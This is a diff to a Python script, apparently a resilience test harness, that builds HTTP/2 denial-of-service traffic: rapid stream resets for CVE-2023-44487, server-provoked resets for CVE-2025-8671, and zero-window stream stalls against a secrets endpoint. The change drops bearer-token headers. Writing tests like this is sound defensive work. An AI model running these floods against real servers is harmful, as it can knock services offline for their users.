@@ -17,7 +17,7 @@ import time
 import frames
 from frames import HTTP2, frame
 
-# Statuses of a clean refusal, beside the closing of the connection.
+# Seconds that a connection may take.
 TIMEOUT = 30
 
 
@@ -275,7 +275,7 @@ def until_closed(connection, ended, turns):
 def rapid_resets(place, ended):
     """CVE-2023-44487."""
     with place.http2() as connection:
-        block = frames.request(place.port, path="/secrets?api-version=7.6", more=bearer(place))
+        block = frames.request(place.port, path="/secrets?api-version=7.6")
         cancel = struct.pack("!I", 8)
         return until_closed(connection, ended, (
             [part for stream in range(first, first + 100, 2) for part in (
@@ -287,7 +287,7 @@ def rapid_resets(place, ended):
 def made_resets(place, ended):
     """CVE-2025-8671: frames that have the server reset the stream."""
     with place.http2() as connection:
-        block = frames.request(place.port, path="/secrets?api-version=7.6", more=bearer(place))
+        block = frames.request(place.port, path="/secrets?api-version=7.6")
         return until_closed(connection, ended, (
             [part for stream in range(first, first + 100, 2) for part in (
                 frame(frames.HEADERS, frames.END_HEADERS | frames.END_STREAM, stream, block),
@@ -346,7 +346,7 @@ def closed_windows(place, ended):
     """Asks for a hundred answers and lets none through."""
     with place.http2(frames.setting(frames.INITIAL_WINDOW_SIZE, 0)) as connection:
         for stream in range(1, 200, 2):
-            connection.ask(stream, "/secrets/read?api-version=7.6", bearer(place))
+            connection.ask(stream, "/secrets/read?api-version=7.6")
         connection.socket.settimeout(0.5)
         while not ended.is_set():
             try:
@@ -357,10 +357,6 @@ def closed_windows(place, ended):
             except OSError:
                 return "closed"
         return "left"
-
-
-def bearer(place):
-    return [("authorization", f"Bearer {place.token}")] if place.token else []
 
 
 ATTACKS = {
